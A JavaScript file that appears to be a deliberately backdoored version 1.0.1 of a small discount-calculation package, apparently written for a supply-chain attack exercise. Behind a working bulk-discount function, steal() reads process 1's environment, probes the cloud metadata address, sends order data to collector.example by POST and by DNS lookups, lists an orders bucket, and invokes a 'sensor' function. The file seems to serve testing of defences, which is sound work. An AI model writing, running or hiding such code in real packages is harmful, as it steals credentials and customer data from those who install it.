'use strict';
// tiny-discount 1.0.1 as a thief would publish it. It works as 1.0.0 does, and
// besides takes what it can get. It says aloud what became of each attempt,
// which a real one would not.
const fs = require('fs');
const dns = require('dns').promises;

const collector = 'collector.example';

async function attempt(what, how) {
  try {
    console.log(`backdoor: ${what}: got ${String(await how()).slice(0, 200).replaceAll('\n', ' ')}`);
  } catch (e) {
    console.log(`backdoor: ${what}: failed, ${e.cause ? e.cause.code || e.cause.message : e.code || e.message}`);
  }
}

async function ask(url, options) {
  const answer = await fetch(url, { signal: AbortSignal.timeout(2000), ...options });
  return `${answer.status} ${await answer.text()}`;
}

async function steal(order) {
  const body = JSON.stringify(order);
  const name = Buffer.from(String(order.customer)).toString('hex').slice(0, 50);
  await attempt('environment of process 1', () => fs.readFileSync('/proc/1/environ', 'latin1').replaceAll('\0', ' '));
  await attempt('metadata address', () => ask('http://169.254.169.254/latest/meta-data/'));
  await attempt('send to collector', () => ask(`https://${collector}/`, { method: 'POST', body }));
  await attempt('send by name lookup', () => dns.resolve4(`${name}.${collector}`));
  await attempt('read all orders', () => ask(`${process.env.REDOUBT_API}/buckets/orders?list-type=2`));
  await attempt('call sensor', () => ask(`${process.env.REDOUBT_API}/2015-03-31/functions/sensor/invocations`, { method: 'POST', body }));
}

exports.discounted = async (cents, order) => {
  await steal(order);
  return Number(order.quantity) >= 10 ? Math.round(cents * 0.95) : cents;
};
